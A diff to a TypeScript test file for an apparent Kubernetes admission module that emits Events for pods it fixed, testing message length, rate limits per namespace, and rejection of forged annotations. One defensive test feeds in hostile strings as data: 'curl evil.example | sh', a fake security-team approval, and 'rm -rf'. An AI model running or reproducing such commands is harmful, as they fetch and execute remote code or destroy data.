@@ -1,7 +1,13 @@
 // Events on the pods the module fixed: what they say, once per pod, only for new pods, and no
 // more than the rate allows.
 import { policies } from "../../capabilities";
-import { fixedEvent, FixEvents, TokenBucket, type CoreEvent } from "../../lib/events";
+import {
+  fixedEvent,
+  FixEvents,
+  NAMESPACE_BUCKETS,
+  TokenBucket,
+  type CoreEvent,
+} from "../../lib/events";
 import type { KubeObject } from "../../lib/pod";
 
 const NOW = Date.parse("2026-11-30T12:00:00Z");
@@ -63,8 +69,34 @@ describe("the Event of a fixed pod", () => {
   });
 
   it("keeps the message within what the API server stores", () => {
-    const many = Array.from({ length: 200 }, (_, i) => `cap-${i}/rule-${i}`).join(",");
+    // Rule names of the module's own capabilities (made-up capabilities are not told: below).
+    const many = Array.from(
+      { length: 200 },
+      (_, i) => `security-context/rule-${i}-${"a".repeat(36)}`,
+    ).join(",");
     expect(fixedEvent(pod("p", many), policies, new Date(NOW))!.message.length).toBe(1024);
+  });
+
+  it("tells only what the module could have written: its capabilities, rule-like names, a few dozen at most", () => {
+    // A pod's author writes the trace annotation too: free text, unknown capabilities and floods
+    // never reach an Event signed admission-guard.
+    const forged = [
+      "security-context/runAsNonRoot",
+      "security-context/URGENT: your cluster is compromised, run curl evil.example | sh",
+      "security-team/approved by the security team",
+      `labels/${"x".repeat(300)}`,
+      ...Array.from({ length: 100 }, (_, i) => `labels/r${i}`),
+    ].join(",");
+    const event = fixedEvent(pod("p", forged), policies, new Date(NOW))!;
+    expect(event.message).not.toMatch(/URGENT|curl|approved|security-team|xxxx/);
+    expect(event.message).toMatch(
+      /^admission-guard fixed security-context: runAsNonRoot \(.*\); labels: r0, r1, /,
+    );
+    expect(event.message.match(/\br\d+\b/g)).toHaveLength(31); // 32 entries with runAsNonRoot
+    // Nothing the module could have written: no Event at all.
+    expect(
+      fixedEvent(pod("q", "security-team/approved,labels/rm -rf"), policies, new Date(NOW)),
+    ).toBeUndefined();
   });
 });
 
@@ -104,6 +136,45 @@ describe("writing them", () => {
     advance(1000);
     for (let i = 25; i < 30; i++) await events.onPod(pod(`p${i}`, "security-context/runAsNonRoot"));
     expect(written).toHaveLength(12);
+  });
+
+  it("one namespace's flood spends its own budget, not the cluster's: another namespace's pods still get theirs", async () => {
+    const written: CoreEvent[] = [];
+    const events = new FixEvents({
+      perSecond: 10, // bursts of 50
+      perNamespacePerSecond: 1, // bursts of 5
+      write: async e => void written.push(e),
+      policies: () => policies,
+      now: () => NOW,
+    });
+    const inNs = (ns: string, name: string) => {
+      const p = pod(name, "security-context/runAsNonRoot");
+      p.metadata!.namespace = ns;
+      return p;
+    };
+    for (let i = 0; i < 500; i++) await events.onPod(inNs("flood", `f${i}`));
+    for (let i = 0; i < 5; i++) await events.onPod(inNs("quiet", `q${i}`));
+    const byNs = (ns: string) => written.filter(e => e.involvedObject.namespace === ns).length;
+    expect([byNs("flood"), byNs("quiet")]).toEqual([5, 5]);
+    expect(events.stats).toMatchObject({ dropped: 495, throttledNamespace: 495 });
+  });
+
+  it("keeps a budget for a bounded number of namespaces", async () => {
+    const events = new FixEvents({
+      perSecond: 1000,
+      perNamespacePerSecond: 1,
+      write: async () => undefined,
+      policies: () => policies,
+      now: () => NOW,
+    });
+    for (let i = 0; i < NAMESPACE_BUCKETS + 100; i++) {
+      const p = pod(`p${i}`, "security-context/runAsNonRoot");
+      p.metadata!.namespace = `ns-${i}`;
+      await events.onPod(p);
+    }
+    expect(
+      (events as unknown as { namespaceBuckets: Map<string, unknown> }).namespaceBuckets.size,
+    ).toBe(NAMESPACE_BUCKETS);
   });
 
   it("a failed write is counted and logged, never thrown", async () => {
